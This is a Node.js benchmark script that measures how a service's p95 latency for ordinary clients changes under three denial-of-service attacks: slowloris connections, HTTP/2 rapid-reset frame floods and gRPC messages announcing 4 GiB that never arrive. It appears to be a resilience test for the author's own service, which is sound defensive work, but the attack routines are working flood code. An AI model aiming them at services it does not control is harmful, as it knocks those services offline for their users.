// What other clients feel while one attacks: p95 before and during, in interleaved windows, against a running service.
//   node tools/bench/attack.mjs [host:port] [--windows 7] [--seconds 2] [--only rapid-reset] [--path RPC] [--body JSON]
// The attacker is a process of its own with a pace, so that it does not simply take the machine's processors away.
import { fork } from "node:child_process";
import http2 from "node:http2";
import net from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import { parseArgs } from "node:util";

/** Other clients: connections, and calls per second of all of them. */
const CLIENTS = 8;
const CALLS_PER_SECOND = 200;
/** The attacks' sizes. */
const SLOW_CONNECTIONS = 500;
const RESETS_PER_SECOND = 5_000;
const PREFIXES_PER_SECOND = 500;
const TICK_MS = 10;
/** How long an attack lasts before it is measured, and what the service has to calm down afterwards. */
const WARM_UP_MS = 500;
const CALM_MS = 300;
const RATIO_MAX = 2;

const { values, positionals } = parseArgs({
  allowPositionals: true,
  options: {
    windows: { type: "string", default: "7" },
    seconds: { type: "string", default: "2" },
    path: { type: "string", default: "/account.v1.AccountService/GetAccount" },
    body: { type: "string", default: '{"accountId":"1"}' },
    only: { type: "string" },
    attack: { type: "string" },
  },
});
const address = positionals[0] ?? "127.0.0.1:8001";
const [host, port] = address.split(":");

const attacks = { slowloris, "rapid-reset": rapidReset, "4-GiB-prefix": largePrefix };

if (values.attack !== undefined) attacks[values.attack]();
else await measureAll();

async function measureAll() {
  const sessions = Array.from({ length: CLIENTS }, connect);
  await window(sessions);
  let worst = 0;
  for (const name of values.only?.split(",") ?? Object.keys(attacks)) {
    const rounds = [];
    for (let round = 0; round < Number(values.windows); round += 1) {
      const before = await window(sessions);
      const during = await underAttack(name, () => window(sessions));
      rounds.push({ before, during, ratio: during.p95 / before.p95 });
      await pause(CALM_MS);
    }
    const ratio = median(rounds.map((each) => each.ratio));
    worst = Math.max(worst, ratio);
    print(name, rounds, ratio);
  }
  for (const session of sessions) session.destroy();
  console.log(
    `worst median ratio ${worst.toFixed(2)}, bar ${RATIO_MAX}: ${worst <= RATIO_MAX ? "met" : "MISSED"}`,
  );
  process.exitCode = worst <= RATIO_MAX ? 0 : 1;
}

function print(name, rounds, ratio) {
  const p95 = (key) => median(rounds.map((each) => each[key].p95)).toFixed(2);
  const failed = rounds.reduce((sum, each) => sum + each.during.failed, 0);
  const ratios = rounds.map((each) => each.ratio.toFixed(2)).join(" ");
  console.log(
    `${name}: p95 before ${p95("before")} ms, during ${p95("during")} ms, ratio ${ratio.toFixed(2)} ` +
      `(${ratios}), calls of others that failed ${failed}`,
  );
}

async function underAttack(name, run) {
  const child = fork(import.meta.filename, [address, "--attack", name]);
  const ended = new Promise((resolve) => child.once("exit", resolve));
  try {
    await new Promise((resolve) => child.once("message", resolve));
    await pause(WARM_UP_MS);
    return await run();
  } finally {
    child.kill("SIGKILL");
    await ended;
  }
}

/** Calls at a steady pace, whether or not those before were answered: a slow answer must not slow the question. */
async function window(sessions) {
  const count = Number(values.seconds) * CALLS_PER_SECOND;
  const startMs = performance.now();
  const calls = [];
  for (let each = 0; each < count; each += 1) {
    const waitMs = startMs + (each * 1_000) / CALLS_PER_SECOND - performance.now();
    if (waitMs > 1) await pause(waitMs);
    calls.push(call(sessions[each % sessions.length]));
  }
  const took = (await Promise.all(calls)).filter((ms) => ms !== undefined);
  took.sort((a, b) => a - b);
  const p95 = took[Math.floor(took.length * 0.95)] ?? Number.POSITIVE_INFINITY;
  return { p95, failed: count - took.length };
}

/** Milliseconds until the answer, or undefined when there was none or the server failed. */
function call(session) {
  const startMs = performance.now();
  return new Promise((resolve) => {
    const stream = session.request({
      ":method": "POST",
      ":path": values.path,
      "content-type": "application/json",
    });
    let status = 0;
    stream.on("error", () => resolve(undefined));
    stream.on("response", (headers) => {
      status = headers[":status"];
    });
    stream.on("end", () => {
      const failed = status === 0 || status === 429 || status >= 500;
      resolve(failed ? undefined : performance.now() - startMs);
    });
    stream.resume();
    stream.end(values.body);
  });
}

/** Many connections, each of which sends its header a byte at a time and opens again when it is closed. */
function slowloris() {
  const open = () => {
    const socket = net.connect(Number(port), host, () => {
      socket.write("POST /healthz HTTP/1.1\r\nHost: a\r\nX-Slow: ");
    });
    const drip = setInterval(() => socket.write("a"), 1_000);
    socket.on("error", () => undefined);
    socket.on("close", () => {
      clearInterval(drip);
      setTimeout(open, 100);
    });
  };
  for (let each = 0; each < SLOW_CONNECTIONS; each += 1) open();
  process.send("ready");
}

/**
 * Opens streams and resets them at once, and comes back on a new connection when it is thrown out. Frames are written as
 * bytes: an attacker who works for each as a client does would take more of the machine than he costs the service.
 */
function rapidReset() {
  const text = (bytes, value) =>
    Buffer.concat([Buffer.from([...bytes, value.length]), Buffer.from(value)]);
  // POST, http, and the two that are not in HPACK's table: path and authority.
  const block = Buffer.concat([
    Buffer.from([0x83, 0x86]),
    text([0x04], values.path),
    text([0x01], "localhost"),
  ]);
  const preface = Buffer.concat([
    Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    frame(0x4, 0, 0),
  ]);
  const reset = Buffer.from([0, 0, 0, http2.constants.NGHTTP2_CANCEL]);
  let stream = 1;
  let socket;
  const open = () => {
    stream = 1;
    socket = net.connect(Number(port), host, () => socket.write(preface));
    socket.on("error", () => undefined);
    socket.on("close", open);
    socket.resume();
  };
  open();
  setInterval(() => {
    if (socket.connecting || socket.destroyed) return;
    const frames = [];
    for (let each = 0; each < (RESETS_PER_SECOND * TICK_MS) / 1_000; each += 1) {
      frames.push(frame(0x1, 0x5, stream, block), frame(0x3, 0, stream, reset));
      stream += 2;
    }
    socket.write(Buffer.concat(frames));
  }, TICK_MS);
  process.send("ready");
}

/** A frame of HTTP/2. */
function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** gRPC messages that announce 4 GiB and never send it. */
function largePrefix() {
  const header = Buffer.from([0, 0xff, 0xff, 0xff, 0xff, 0]);
  everyTick(PREFIXES_PER_SECOND, (session) => {
    const type = { "content-type": "application/grpc", te: "trailers" };
    const stream = session.request({ ":method": "POST", ":path": values.path, ...type });
    stream.on("error", () => undefined);
    stream.resume();
    stream.write(header);
  });
}

function everyTick(perSecond, strike) {
  let session = connect();
  let owed = 0;
  setInterval(() => {
    if (session.closed || session.destroyed) session = connect();
    owed += (perSecond * TICK_MS) / 1_000;
    for (; owed >= 1; owed -= 1) {
      if (!session.closed && !session.destroyed) strike(session);
    }
  }, TICK_MS);
  process.send("ready");
}

function connect() {
  const session = http2.connect(`http://${address}`);
  session.on("error", () => undefined);
  return session;
}

function median(numbers) {
  return numbers.toSorted((a, b) => a - b)[Math.floor(numbers.length / 2)] ?? Number.NaN;
}
